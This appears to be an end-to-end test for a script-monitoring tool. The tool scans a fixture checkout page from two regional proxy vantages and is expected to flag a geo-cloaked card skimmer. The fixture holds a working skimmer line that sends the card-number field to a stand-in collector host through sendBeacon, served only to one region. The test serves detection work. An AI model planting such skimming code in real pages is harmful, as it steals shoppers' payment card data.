// E2E: one page scanned from two vantages (each leaving through its own proxy), kept apart by profile key, and a
// skimmer served only to visitors of one region caught there and flagged as possible cloaking by location.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { CHECKOUT_FORM } from '../fixtures/canary-shops.js';
import { parseJson, runCli, tempProject } from '../fixtures/cli.js';
import { startFixtureSite, type FixtureSite } from '../fixtures/fixture-site.js';
import { startExitProxy, type ExitProxy } from '../fixtures/exit-proxy.js';
import type { ScanJson } from './scenario.js';

describe('vantages', () => {
  let site: FixtureSite;
  let eu: ExitProxy;
  let us: ExitProxy;
  let dir: string;
  let planted = false;
  let first: ScanJson;
  let second: ScanJson;

  beforeAll(async () => {
    site = await startFixtureSite();
    // The skimmer reaches only visitors from one region (through the eu exit), once planted.
    const skims = (headers: Record<string, unknown>) => planted && headers['x-exit'] === 'eu';
    site.set('geo-shop.test', '/checkout', `<!doctype html><html><head><title>Checkout</title></head><body>${CHECKOUT_FORM}<script src="/js/app.js"></script></body></html>`);
    site.set('geo-shop.test', '/js/app.js', {
      body: '',
      render: ({ headers }) => `window.app = { ready: true };${skims(headers)
        ? `document.getElementById('card-number').addEventListener('blur', function (e) { navigator.sendBeacon('http://geo-collect.test:{{PORT}}/c', 'n=' + e.target.value); });`
        : ''}`,
    });
    site.set('geo-collect.test', '/c', 'ok');
    site.set('geo-dl.test', '/sdk.js', 'window.sdk = 1;');
    eu = await startExitProxy(site.port, { exit: 'eu' });
    us = await startExitProxy(site.port, { exit: 'us' });
    dir = tempProject('sw-vantage-');
    writeFileSync(join(dir, 'scriptwarden.yml'), `database: ./sw.db
vantages:
  - name: eu-west
    proxy: ${eu.url}
  - name: us-east
    proxy: ${us.url}
browser:
  settle: 300ms
targets:
  - name: shop
    url: ${site.url('geo-shop.test', '/checkout')}
  - name: sdk
    url: ${site.url('geo-dl.test', '/sdk.js')}
    type: resource
    vantages: [us-east]
`);
    first = parseJson<ScanJson>(await runCli(['scan', '--json'], { cwd: dir }));
    planted = true;
    second = parseJson<ScanJson>(await runCli(['scan', '--json'], { cwd: dir }));
  });
  afterAll(async () => {
    await eu?.close();
    await us?.close();
    await site?.close();
  });

  it('scans each target from each of its vantages, through that vantage\'s way out', () => {
    const outcomes = first.targets.map((t) => `${t.target} ${t.profile} ${t.status}`);
    assert.deepEqual(outcomes.sort(), ['sdk desktop@us-east ok', 'shop desktop@eu-west ok', 'shop desktop@us-east ok'], JSON.stringify(first.targets));
    const page = site.url('geo-shop.test', '/checkout');
    assert.ok(eu.seen.includes(`GET ${page}`) && us.seen.includes(`GET ${page}`), 'the page was loaded through both exits');
    const sdk = `GET ${site.url('geo-dl.test', '/sdk.js')}`;
    assert.ok(us.seen.includes(sdk) && !eu.seen.includes(sdk), 'the hosted file only through the exit of its one vantage');
  });

  it('catches the skimmer at the vantage it is served to, and says only that vantage was served it', () => {
    const alerts = second.alerts.filter((a) => a.target === 'shop');
    assert.ok(alerts.length > 0, JSON.stringify(second.targets));
    assert.deepEqual([...new Set(alerts.map((a) => a.profile))], ['desktop@eu-west'], alerts.map((a) => `${a.profile} ${a.type}`).join(', '));
    const exfil = alerts.find((a) => a.type === 'exfiltration.detected');
    assert.ok(exfil, alerts.map((a) => a.type).join(', '));
    assert.equal(exfil.details.cloaking, 'possible cloaking: only the eu-west vantage is served this (desktop); us-east did not see it in the same run');
    assert.match(exfil.summary, /only the eu-west vantage is served this/);
  });

  it('keeps each vantage\'s inventory apart', async () => {
    const rows = parseJson<{ inventory: { target: string; profile: string; subject: string }[] }>(await runCli(['inventory', '--json'], { cwd: dir })).inventory;
    const app = rows.filter((r) => r.target === 'shop' && r.subject.endsWith('/js/app.js')).map((r) => r.profile).sort();
    assert.deepEqual(app, ['desktop@eu-west', 'desktop@us-east']);
  });
});
